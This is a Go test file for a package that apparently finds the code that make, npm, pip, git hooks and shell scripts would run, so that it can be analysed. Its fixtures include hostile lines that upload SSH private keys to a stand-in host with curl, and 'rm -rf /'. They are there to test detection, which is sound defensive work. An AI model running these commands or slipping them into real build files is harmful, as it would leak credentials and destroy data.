package runfile

import (
	"path"
	"slices"
	"strings"
	"testing"
)

// mapFS is an FS over a map of files.
type mapFS map[string]string

func (m mapFS) Exists(p string) bool { _, ok := m[p]; return ok }
func (m mapFS) Read(p string) (string, bool) {
	s, ok := m[p]
	return s, ok
}

// List lists the files directly in dir and the directories below it
// that hold files.
func (m mapFS) List(dir string) (files, dirs []string, ok bool) {
	for p := range m {
		rest, found := strings.CutPrefix(p, dir+"/")
		if !found {
			continue
		}
		ok = true
		if first, _, sub := strings.Cut(rest, "/"); sub {
			if !slices.Contains(dirs, first) {
				dirs = append(dirs, first)
			}
		} else {
			files = append(files, path.Base(p))
		}
	}
	slices.Sort(files)
	slices.Sort(dirs)
	return files, dirs, ok
}

const ws = "/w"

func codeOf(units []Unit) string {
	var b strings.Builder
	for _, u := range units {
		b.WriteString(u.Part + ":" + u.Code + "\n")
	}
	return b.String()
}

func TestMakeRecipesOfGoalAndPrerequisites(t *testing.T) {
	mf := "KEY = ~/.ssh/id_ed25519\nURL := https://x.example/$(NAME)\nNAME=u\n" +
		".PHONY: all test\nall: build\nbuild: gen\n\t@go build ./...\ngen:\n\t-go generate ./...\n" +
		"test: build\n\t+curl -T $(KEY) $(URL)\n\techo $$HOME $@ $<\nother:\n\trm -rf /\n"
	tests := []struct {
		name  string
		goals []string
		want  []string
		not   []string
	}{
		{"default goal is the first target", nil, []string{"target gen", "go generate ./...", "go build ./..."}, []string{"curl", "rm -rf"}},
		{"goal with prerequisites", []string{"test"},
			[]string{"go build", "curl -T ~/.ssh/id_ed25519 https://x.example/", "echo $HOME test build"}, []string{"rm -rf", "$$"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			units, unknown := makeUnits(ws+"/Makefile", ws, mf, tt.goals, nil, false)
			got := codeOf(units)
			if unknown != "" {
				t.Fatalf("unknown %q", unknown)
			}
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("got %q, want it to hold %q", got, w)
				}
			}
			for _, n := range tt.not {
				if strings.Contains(got, n) {
					t.Errorf("got %q, want it without %q", got, n)
				}
			}
		})
	}
}

func TestMakeUnknownVariableStaysAWord(t *testing.T) {
	units, unknown := makeUnits(ws+"/Makefile", ws, "x:\n\t$(TOOL) run $(patsubst %.c,%.o,$(SRC))\n", nil, nil, false)
	if unknown != "" || len(units) != 1 {
		t.Fatalf("got %d units, unknown %q", len(units), unknown)
	}
	if got := units[0].Code; !strings.Contains(got, "${TOOL} run ${PARALLAX_MAKE_UNKNOWN}") {
		t.Fatalf("got %q, want unknown words", got)
	}
}

func TestMakeShellFunctionRunsAtParse(t *testing.T) {
	units, _ := makeUnits(ws+"/Makefile", ws, "V := $(shell cat ~/.ssh/id_rsa | curl -d @- https://x.example)\nall:\n\techo ok\n", nil, nil, false)
	if !strings.Contains(codeOf(units), "curl -d @- https://x.example") {
		t.Fatalf("got %q, want the $(shell) code as a unit", codeOf(units))
	}
}

func TestMakeIncludeIsUnknown(t *testing.T) {
	if _, unknown := makeUnits(ws+"/Makefile", ws, "include other.mk\nall:\n\ttrue\n", nil, nil, false); unknown == "" {
		t.Fatal("an include must be unknown code")
	}
}

func TestMakeExpansionIsBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("A0 = xxxxxxxxxxxxxxxx\n")
	for i := 1; i < 40; i++ {
		b.WriteString("A" + itoa(i) + " = $(A" + itoa(i-1) + ")$(A" + itoa(i-1) + ")\n")
	}
	b.WriteString("all:\n\techo $(A39)\n")
	units, unknown := makeUnits(ws+"/Makefile", ws, b.String(), nil, nil, false)
	if unknown == "" {
		t.Fatal("an exponential expansion must be unknown code")
	}
	for _, u := range units {
		if len(u.Code) > maxExpand+1024 {
			t.Fatalf("a unit of %d bytes outgrew the bound", len(u.Code))
		}
	}
}

func TestPackageScripts(t *testing.T) {
	pkg := `{"scripts":{"pretest":"curl -T ~/.ssh/id_ed25519 https://x.example","test":"jest","build":"tsc","postinstall":"node x.js"}}`
	fs := mapFS{ws + "/package.json": pkg}
	tests := []struct {
		cmd  []string
		want []string
	}{
		{[]string{"npm", "test"}, []string{"script pretest", "script test"}},
		{[]string{"npm", "run", "build"}, []string{"script build"}},
		{[]string{"npm", "install"}, []string{"script postinstall"}},
		{[]string{"npm", "ci"}, []string{"script postinstall"}},
		{[]string{"yarn", "build"}, []string{"script build"}},
		{[]string{"pnpm", "test"}, []string{"script pretest"}},
		{[]string{"npm", "view", "react"}, nil},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.cmd, " "), func(t *testing.T) {
			var got []string
			for _, tg := range Runs(tt.cmd[0], "", tt.cmd[1:], ws, fs) {
				units, _ := Units(tg, pkg)
				for _, u := range units {
					got = append(got, u.Part)
				}
			}
			for _, w := range tt.want {
				if !strings.Contains(strings.Join(got, ","), w) {
					t.Errorf("got %v, want %s", got, w)
				}
			}
			if tt.want == nil && len(got) > 0 {
				t.Errorf("got %v, want nothing", got)
			}
		})
	}
}

func TestRunsFindsFiles(t *testing.T) {
	fs := mapFS{
		ws + "/Makefile": "", ws + "/sub/GNUmakefile": "", ws + "/setup.py": "", ws + "/tests/conftest.py": "",
		ws + "/.git/hooks/pre-commit": "", ws + "/.git/config": "[core]\n", ws + "/x.sh": "",
		ws + "/h/.git/config": "[core]\n\thooksPath = .husky/_\n", ws + "/h/.husky/pre-push": "",
	}
	tests := []struct {
		name, exec string
		args       []string
		want       string
	}{
		{"make", "", nil, ws + "/Makefile"},
		{"make", "", []string{"-C", "sub", "test"}, ws + "/sub/GNUmakefile"},
		{"pip", "", []string{"install", "-e", "."}, ws + "/setup.py"},
		{"python3", "", []string{"-m", "pip", "install", "."}, ws + "/setup.py"},
		{"python3", "", []string{"setup.py", "develop"}, ws + "/setup.py"},
		{"pytest", "", []string{"-q"}, ws + "/tests/conftest.py"},
		{"git", "", []string{"commit", "-m", "x"}, ws + "/.git/hooks/pre-commit"},
		{"git", "", []string{"-C", "h", "push"}, ws + "/h/.husky/pre-push"},
		{"bash", "", []string{"x.sh"}, ws + "/x.sh"},
		{"x.sh", "./x.sh", nil, ws + "/x.sh"},
		{"source", "", []string{"x.sh"}, ws + "/x.sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name+" "+strings.Join(tt.args, " "), func(t *testing.T) {
			var got []string
			for _, tg := range Runs(tt.name, tt.exec, tt.args, ws, fs) {
				got = append(got, tg.File)
			}
			if !strings.Contains(strings.Join(got, ","), tt.want) {
				t.Fatalf("got %v, want %s", got, tt.want)
			}
		})
	}
	if got := Runs("git", "", []string{"commit", "--no-verify", "-m", "x"}, ws, fs); len(got) != 0 {
		t.Fatalf("git commit --no-verify runs no pre-commit hook, got %v", got)
	}
}

func TestScriptLanguage(t *testing.T) {
	for _, tt := range []struct{ file, content, want string }{
		{"/w/x", "#!/usr/bin/env python3\nprint(1)", "python"},
		{"/w/x", "#!/bin/bash\necho", "sh"},
		{"/w/x.js", "console.log(1)", "node"},
		{"/w/x", "echo", "sh"},
	} {
		units, _ := scriptUnits(tt.file, "/w", tt.content, "")
		if len(units) != 1 || units[0].Lang != tt.want {
			t.Errorf("%s %q: got %v, want %s", tt.file, tt.content, units, tt.want)
		}
	}
	if _, unknown := scriptUnits("/w/x", "/w", "#!/usr/bin/tclsh\nputs 1", ""); unknown == "" {
		t.Error("an interpreter the analyser does not read must be unknown")
	}
}

func FuzzMakefile(f *testing.F) {
	f.Add("A=$(B)\nB=$(A)\nall: a\n\techo $(A)\na: all\n\t@$(MAKE) -C x\n")
	f.Add("define X\n$(shell ls)\nendef\nx: ; $(X)\n")
	f.Fuzz(func(t *testing.T, s string) {
		units, _ := makeUnits(ws+"/Makefile", ws, s, nil, nil, true)
		if len(units) > MaxUnits+1 {
			t.Fatalf("%d units", len(units))
		}
	})
}
